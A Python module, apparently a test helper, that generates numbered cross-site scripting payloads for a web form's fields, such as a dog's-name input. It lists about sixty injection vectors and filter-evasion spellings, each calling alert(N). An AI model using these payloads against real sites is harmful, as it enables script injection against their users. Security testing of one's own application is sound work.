"""Cross-site scripting payloads, each calling alert(N) with its own number N, so that an
execution names the payload. Short vectors first (a dog's name in the wizard holds 40
characters), in HTML text, attribute, URL, script-string, template and filter-evasion
contexts, each in several spellings."""

from __future__ import annotations

# {c} is the call, alert(N)
VECTORS = [
    "<script>{c}</script>",
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<svg/onload={c}>",
    '"><svg onload={c}>',
    "'><svg onload={c}>",
    '" autofocus onfocus={c} x="',
    "' autofocus onfocus={c} x='",
    "</textarea><svg onload={c}>",
    "</title><svg onload={c}>",
    "</script><svg onload={c}>",
    "</style><svg onload={c}>",
    "</noscript><svg onload={c}>",
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    " javascript:{c}",
    "java\tscript:{c}",
    "data:text/html,<script>{c}</script>",
    "<details open ontoggle={c}>",
    "<body onload={c}>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>",
    "<a href=javascript:{c}>x</a>",
    "<iframe src=javascript:{c}>",
    "<iframe srcdoc='<svg onload=parent.{c}>'>",
    "<object data=javascript:{c}>",
    "<embed src=javascript:{c}>",
    "<audio src=x onerror={c}>",
    "<video><source onerror={c}>",
    "<marquee onstart={c}>",
    "<svg><animate onbegin={c} attributeName=x>",
    "<svg><script>{c}</script>",
    "<math><a href=javascript:{c}>x",
    "<form><button formaction=javascript:{c}>x",
    "<x contenteditable autofocus onfocus={c}>",
    "<IMG SRC=x OnErRoR={c}>",
    "<<svg onload={c}//<",
    "<scr<script>ipt>{c}</script>",
    '<!--<img src="--><img src=x onerror={c}>',
    "<img src=x onerror=&#97;lert({n})>",
    "<svg onload=alert&#40;{n}&#41;>",
    "<img src=x onerror=alert`{n}`>",
    "&lt;svg onload={c}&gt;",
    "%3Csvg%20onload%3D{c}%3E",
    "\\u003csvg onload={c}\\u003e",
    '";{c};//',
    "';{c};//",
    "`;{c};//",
    "${{{c}}}",
    "{{{{{c}}}}}",
    "{{% if 1 %}}<svg onload={c}>{{% endif %}}",
    "[x](javascript:{c})",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<base href=javascript:{c}//>",
    "<table background=javascript:{c}>",
    "<style>*{{background:url(javascript:{c})}}</style>",
    "\u2028<svg onload={c}>\u2029",
    "\u202e<svg onload={c}>",
    "<img src=x onerror\x0b={c}>",
]

SPELLINGS = [
    lambda v: v,
    lambda v: "Rex " + v,  # after ordinary text
    lambda v: v.replace(" ", "\n") if " " in v else "\n" + v,  # line breaks for spaces
    lambda v: v.upper().replace("ALERT", "alert") if "<" in v else v + " ",
]


def payloads(count: int) -> list[tuple[int, str]]:
    """(N, payload) pairs, N from 1; the first `count` of vectors x spellings."""
    out: list[tuple[int, str]] = []
    seen: set[str] = set()
    for spelling in SPELLINGS:
        for vector in VECTORS:
            n = len(out) + 1
            text = spelling(vector.format(c=f"alert({n})", n=n))
            if text in seen:
                continue
            seen.add(text)
            out.append((n, text))
            if len(out) >= count:
                return out
    return out


MAX = len(VECTORS) * len(SPELLINGS)
